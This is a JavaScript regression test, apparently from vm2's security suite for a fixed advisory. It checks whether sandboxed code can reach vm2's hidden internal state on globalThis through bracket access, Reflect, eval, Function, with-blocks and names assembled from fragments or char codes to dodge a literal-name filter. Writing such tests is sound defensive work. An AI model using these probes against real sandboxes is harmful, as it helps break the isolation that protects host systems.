// Source: vm2 test/ghsa/GHSA-2cm2-m3w5-gp2f/repro.js (fixed in vm2 3.11.2), "internal state reachable
// via computed property access on globalThis".
// Tried: read vm2's internal state (handleException, wrapWith, import) through globalThis[...],
// Reflect.get, property descriptors, own-key enumeration, eval and Function. The name is built from
// parts, as in the advisory's string-concatenation variant (a source naming it literally is refused).
const name = 'VM2_INTERNAL_STATE' + '_DO_NOT_USE_OR_PROGRAM_WILL_FAIL';
const out = {};
const reads = {
  bracket: () => globalThis[name],
  reflectGet: () => Reflect.get(globalThis, name),
  descriptor: () => Object.getOwnPropertyDescriptor(globalThis, name),
  ownNames: () => Object.getOwnPropertyNames(globalThis).filter((n) => n.includes('VM2_INTERNAL')),
  thisBracket: () => this[name],
  fromCharCode: () => globalThis[String.fromCharCode(86, 77, 50, 95) + 'INTERNAL_STATE_DO_NOT_USE_OR_PROGRAM_WILL_FAIL'],
  eval: () => eval(`globalThis['${name}']`),
  Function: () => Function(`return globalThis['${name}']`)(),
  withGlobal: () => { let found; with (globalThis) { found = typeof handleException; } return found; },
};
for (const [label, read] of Object.entries(reads)) {
  try {
    const value = read();
    out[label] = Array.isArray(value) ? value : typeof value;
    if (value && typeof value === 'object' && !Array.isArray(value)) {
      for (const key of ['handleException', 'wrapWith', 'import']) __wr.use(value[key], label + '.' + key);
    }
  } catch (e) { out[label] = String(e.message).slice(0, 80); }
}
return out;
